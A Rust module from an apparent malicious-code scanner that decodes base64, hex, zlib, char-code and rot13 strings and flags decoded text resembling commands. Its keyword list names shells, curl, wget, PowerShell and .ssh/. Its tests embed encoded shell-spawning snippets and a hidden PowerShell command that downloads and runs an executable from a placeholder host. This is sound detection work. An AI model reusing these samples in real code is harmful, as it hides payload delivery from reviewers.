//! Decode-and-rescan: finds string literals (and char-code expressions) that
//! look encoded, decodes them within a budget, and hands back text the engine
//! rescans one layer deeper.

use crate::lexer::Views;
use base64::Engine as _;
use base64::engine::{DecodePaddingMode, GeneralPurpose, GeneralPurposeConfig};
use regex::Regex;
use std::io::Read;
use std::sync::OnceLock;

/// Deepest layer rescanned (a layer is one decode).
pub const MAX_DEPTH: u8 = 3;
/// Decoded bytes kept per file, over all layers.
pub const MAX_DECODED_PER_FILE: usize = 4 * 1024 * 1024;
/// Largest single decode (also caps zlib inflation).
pub const MAX_DECODED_ONE: usize = 1024 * 1024;
/// Candidates tried per file, over all layers.
pub const MAX_CANDIDATES: usize = 256;
/// Shortest base64/hex run worth decoding.
const MIN_BLOB: usize = 40;

/// How a piece of text was hidden.
#[derive(Debug, Clone, Copy, PartialEq, Eq)]
pub enum Encoding {
    Base64,
    Hex,
    /// base64 or hex whose bytes were zlib or gzip data.
    Compressed,
    HexEscapes,
    CharCodes,
    Rot13,
}

impl Encoding {
    pub fn as_str(self) -> &'static str {
        match self {
            Encoding::Base64 => "base64",
            Encoding::Hex => "hex",
            Encoding::Compressed => "zlib",
            Encoding::HexEscapes => "\\x escapes",
            Encoding::CharCodes => "char codes",
            Encoding::Rot13 => "rot13",
        }
    }
}

/// Base64 runs at least this long are reported as long blobs.
pub const LONG_BLOB: usize = 1024;

/// One decoded candidate.
#[derive(Debug, Clone)]
pub struct Decoded {
    /// Offset of the encoded text in the scanned text.
    pub offset: usize,
    pub encoding: Encoding,
    pub text: String,
    /// Length of the encoded run.
    pub encoded_len: usize,
}

/// What is left of a file's decode budget.
#[derive(Debug, Clone)]
pub struct Budget {
    pub bytes: usize,
    pub candidates: usize,
}

impl Default for Budget {
    fn default() -> Self {
        Budget {
            bytes: MAX_DECODED_PER_FILE,
            candidates: MAX_CANDIDATES,
        }
    }
}

struct Patterns {
    blob: Regex,
    hex_escapes: Regex,
    char_codes: Regex,
    number: Regex,
    rot13: Regex,
}

fn patterns() -> Option<&'static Patterns> {
    static P: OnceLock<Option<Patterns>> = OnceLock::new();
    P.get_or_init(|| {
        Some(Patterns {
            blob: Regex::new(r"[A-Za-z0-9+/_-]{40,}={0,2}").ok()?,
            hex_escapes: Regex::new(r"(?:\\x[0-9a-fA-F]{2}){8,}").ok()?,
            char_codes: Regex::new(
                r"(?:chr\s*\(\s*\d+\s*\)\s*\+\s*){3,}chr\s*\(\s*\d+\s*\)|(?:fromCharCode\s*\(|bytes\s*\(\s*\[|map\s*\(\s*chr\s*,\s*\[|\bin\s+\[)\s*\d+(?:\s*,\s*\d+){7,}",
            )
            .ok()?,
            number: Regex::new(r"\d+").ok()?,
            rot13: Regex::new(r"(?i)rot_?13").ok()?,
        })
    })
    .as_ref()
}

/// Finds and decodes the encoded pieces of one layer.
pub fn candidates(views: &Views, budget: &mut Budget) -> Vec<Decoded> {
    let Some(p) = patterns() else {
        return Vec::new();
    };
    let mut out = Vec::new();
    let mut take = |offset: usize,
                    encoding: Encoding,
                    text: Option<String>,
                    encoded_len: usize,
                    out: &mut Vec<Decoded>| {
        if let Some(text) = text
            && budget.bytes >= text.len()
        {
            budget.bytes -= text.len();
            out.push(Decoded {
                offset,
                encoding,
                text,
                encoded_len,
            });
        }
    };
    for m in p.blob.find_iter(&views.strings) {
        if budget.candidates == 0 {
            return out;
        }
        budget.candidates -= 1;
        let run = m.as_str();
        if run.len() > 4 * MAX_DECODED_ONE / 3 + 4 {
            continue;
        }
        let (enc, text) = decode_blob(run);
        take(m.start(), enc, text, run.len(), &mut out);
    }
    for m in p.hex_escapes.find_iter(&views.strings) {
        if budget.candidates == 0 {
            return out;
        }
        budget.candidates -= 1;
        let bytes: Vec<u8> = m
            .as_str()
            .split("\\x")
            .filter_map(|h| u8::from_str_radix(h, 16).ok())
            .collect();
        take(
            m.start(),
            Encoding::HexEscapes,
            printable_text(bytes),
            m.len(),
            &mut out,
        );
    }
    for m in p.char_codes.find_iter(&views.code) {
        if budget.candidates == 0 {
            return out;
        }
        budget.candidates -= 1;
        let text: Option<String> = p
            .number
            .find_iter(m.as_str())
            .map(|n| n.as_str().parse::<u32>().ok().and_then(char::from_u32))
            .collect();
        take(
            m.start(),
            Encoding::CharCodes,
            text.filter(|t| is_printable(t)),
            m.len(),
            &mut out,
        );
    }
    if p.rot13.is_match(&views.code) {
        for lit in &views.literals {
            if budget.candidates == 0 {
                return out;
            }
            let Some(s) = views.strings.get(lit.start..lit.end) else {
                continue;
            };
            if s.len() < 20 {
                continue;
            }
            budget.candidates -= 1;
            let text = rot13(s);
            let keep = looks_like_code(&text);
            take(
                lit.start,
                Encoding::Rot13,
                keep.then_some(text),
                s.len(),
                &mut out,
            );
        }
    }
    out
}

/// Offsets of base64-alphabet runs of at least [`LONG_BLOB`] characters in
/// the strings view (a byte scan: a counted repetition this long would blow
/// up the one-pass automaton).
pub fn long_blobs(views: &Views) -> Vec<usize> {
    let mut out = Vec::new();
    let mut run_start = 0usize;
    let mut run = 0usize;
    for (i, b) in views.strings.bytes().enumerate() {
        if b.is_ascii_alphanumeric() || b == b'+' || b == b'/' {
            if run == 0 {
                run_start = i;
            }
            run += 1;
            if run == LONG_BLOB {
                out.push(run_start);
            }
        } else {
            run = 0;
        }
    }
    out
}

/// Decodes a base64 or hex run, inflating zlib/gzip data.
fn decode_blob(run: &str) -> (Encoding, Option<String>) {
    let trimmed = run.trim_end_matches('=');
    let bytes = if trimmed.len().is_multiple_of(2) && trimmed.bytes().all(|b| b.is_ascii_hexdigit())
    {
        return match hex(trimmed) {
            Some(b) => match inflate(&b) {
                Some(t) => (Encoding::Compressed, printable_text(t)),
                None => (Encoding::Hex, printable_text(b)),
            },
            None => (Encoding::Hex, None),
        };
    } else {
        base64(run)
    };
    match bytes {
        Some(b) => match inflate(&b) {
            Some(t) => (Encoding::Compressed, printable_text(t)),
            None => (Encoding::Base64, printable_text(b)),
        },
        None => (Encoding::Base64, None),
    }
}

fn base64(run: &str) -> Option<Vec<u8>> {
    let cfg = GeneralPurposeConfig::new()
        .with_decode_padding_mode(DecodePaddingMode::Indifferent)
        .with_decode_allow_trailing_bits(true);
    let standard = GeneralPurpose::new(&base64::alphabet::STANDARD, cfg);
    let url = GeneralPurpose::new(&base64::alphabet::URL_SAFE, cfg);
    if run.contains(['-', '_']) {
        url.decode(run).ok()
    } else {
        standard.decode(run).ok()
    }
}

fn hex(s: &str) -> Option<Vec<u8>> {
    (0..s.len())
        .step_by(2)
        .map(|i| s.get(i..i + 2).and_then(|h| u8::from_str_radix(h, 16).ok()))
        .collect()
}

/// Inflates zlib or gzip data, at most [`MAX_DECODED_ONE`] bytes.
fn inflate(b: &[u8]) -> Option<Vec<u8>> {
    let mut out = Vec::new();
    let limit = MAX_DECODED_ONE as u64;
    match b {
        [0x78, 0x01 | 0x5e | 0x9c | 0xda, ..] => {
            flate2::read::ZlibDecoder::new(b)
                .take(limit)
                .read_to_end(&mut out)
                .ok()?;
        }
        [0x1f, 0x8b, ..] => {
            flate2::read::GzDecoder::new(b)
                .take(limit)
                .read_to_end(&mut out)
                .ok()?;
        }
        _ => return None,
    }
    Some(out)
}

fn printable_text(mut bytes: Vec<u8>) -> Option<String> {
    bytes.truncate(MAX_DECODED_ONE);
    if let Some(text) = utf16le_text(&bytes) {
        return is_printable(&text).then_some(text);
    }
    let text = String::from_utf8(bytes).ok()?;
    is_printable(&text).then_some(text)
}

/// UTF-16LE text (PowerShell `-EncodedCommand` payloads): an even length
/// with almost every odd byte zero.
fn utf16le_text(bytes: &[u8]) -> Option<String> {
    if bytes.len() < 16 || !bytes.len().is_multiple_of(2) {
        return None;
    }
    let zeros = bytes.iter().skip(1).step_by(2).filter(|b| **b == 0).count();
    if zeros * 10 < bytes.len() / 2 * 9 {
        return None;
    }
    let units: Vec<u16> = bytes
        .chunks_exact(2)
        .map(|c| {
            u16::from_le_bytes([
                c.first().copied().unwrap_or(0),
                c.get(1).copied().unwrap_or(0),
            ])
        })
        .collect();
    Some(String::from_utf16_lossy(&units))
}

/// Mostly printable text (not random bytes), at least 8 characters.
pub fn is_printable(text: &str) -> bool {
    let mut total = 0usize;
    let mut bad = 0usize;
    for c in text.chars() {
        total += 1;
        if c.is_control() && !matches!(c, '\n' | '\r' | '\t') || c == '\u{fffd}' {
            bad += 1;
        }
    }
    total >= 8 && bad * 20 <= total
}

fn rot13(s: &str) -> String {
    s.chars()
        .map(|c| match c {
            'a'..='z' => (((c as u8 - b'a') + 13) % 26 + b'a') as char,
            'A'..='Z' => (((c as u8 - b'A') + 13) % 26 + b'A') as char,
            _ => c,
        })
        .collect()
}

/// Decoded text that reads like code or a command (what the encoding hid).
pub fn looks_like_code(text: &str) -> bool {
    const MARKERS: &[&str] = &[
        "import ",
        "def ",
        "exec(",
        "eval(",
        "subprocess",
        "os.system",
        "socket.",
        "require(",
        "function ",
        "function(",
        "child_process",
        "__import__",
        "powershell",
        "Invoke-WebRequest",
        "Start-Process",
        "curl ",
        "wget ",
        "/bin/sh",
        "bash -c",
        ".ssh/",
        "urlopen",
        "requests.",
        "process.env",
    ];
    MARKERS.iter().any(|m| text.contains(m))
}

/// A decoded layer that is itself one encoded blob (base64 of base64):
/// rescan it as one string rather than as code.
pub fn is_bare_blob(text: &str) -> bool {
    let t = text.trim();
    t.len() >= MIN_BLOB
        && t.bytes()
            .all(|b| b.is_ascii_alphanumeric() || matches!(b, b'+' | b'/' | b'=' | b'-' | b'_'))
}

#[cfg(test)]
mod tests {
    use super::*;
    use crate::lexer::lex_python;

    #[test]
    fn decodes_base64_hex_zlib_and_char_codes() {
        let src = "a = 'aW1wb3J0IG9zLCBzdWJwcm9jZXNzCnN1YnByb2Nlc3MuUG9wZW4oWyJzaCJdKQo='\nb = '696d706f7274206f733b206f732e73797374656d28276964272920202020'\nc = chr(105)+chr(109)+chr(112)+chr(111)+chr(114)+chr(116)+chr(32)+chr(111)\n";
        let v = lex_python(src);
        let mut budget = Budget::default();
        let d = candidates(&v, &mut budget);
        let kinds: Vec<_> = d.iter().map(|d| d.encoding).collect();
        assert_eq!(
            kinds,
            [Encoding::Base64, Encoding::Hex, Encoding::CharCodes],
            "{d:?}"
        );
        assert!(d[0].text.contains("subprocess.Popen"));
        assert!(d[1].text.starts_with("import os; os.system('id')"));
        assert_eq!(d[2].text, "import o");
        assert!(budget.bytes < MAX_DECODED_PER_FILE);
    }

    #[test]
    fn inflates_zlib_and_rejects_binary() {
        // zlib.compress(b"import os\nos.system('id')\n" * 3), base64.
        let blob = "eJzLzC3ILypRyC/myi/WK64sLknN1VDPTFHX5MokQwYAOfsadw==";
        let v = lex_python(&format!("x = '{blob}'\n"));
        let d = candidates(&v, &mut Budget::default());
        assert_eq!(d.len(), 1, "{d:?}");
        assert_eq!(d[0].encoding, Encoding::Compressed);
        assert!(d[0].text.contains("os.system('id')"));
        // A sha256 in hex decodes to random bytes: no candidate.
        let v =
            lex_python("h = 'e3b0c44298fc1c149afbf4c8996fb92427ae41e4649b934ca495991b7852b855'\n");
        assert!(candidates(&v, &mut Budget::default()).is_empty());
    }

    #[test]
    fn decodes_powershell_encoded_command_as_utf16le() {
        // UTF-16LE of "Invoke-WebRequest -Uri http://x.example/a.exe -OutFile a.exe; Start-Process a.exe"
        let payload =
            "Invoke-WebRequest -Uri http://x.example/a.exe -OutFile a.exe; Start-Process a.exe";
        let units: Vec<u8> = payload.encode_utf16().flat_map(u16::to_le_bytes).collect();
        let b64 = base64::engine::general_purpose::STANDARD.encode(units);
        let v = lex_python(&format!(
            "subprocess.Popen('powershell -WindowStyle Hidden -EncodedCommand {b64}')\n"
        ));
        let d = candidates(&v, &mut Budget::default());
        assert_eq!(d.len(), 1, "{d:?}");
        assert_eq!(d[0].text, payload);
        // Plain UTF-8 base64 still decodes as UTF-8.
        let v =
            lex_python("a = 'aW1wb3J0IG9zLCBzdWJwcm9jZXNzCnN1YnByb2Nlc3MuUG9wZW4oWyJzaCJdKQo='\n");
        let d = candidates(&v, &mut Budget::default());
        assert!(d[0].text.starts_with("import os"));
    }

    #[test]
    fn budget_bounds_work() {
        let blob = "aW1wb3J0IG9zLCBzdWJwcm9jZXNzCnN1YnByb2Nlc3MuUG9wZW4oWyJzaCJdKQo=";
        let src: String = (0..400).map(|_| format!("x = '{blob}'\n")).collect();
        let v = lex_python(&src);
        let mut budget = Budget::default();
        let d = candidates(&v, &mut budget);
        assert_eq!(d.len(), MAX_CANDIDATES);
        assert_eq!(budget.candidates, 0);
    }
}
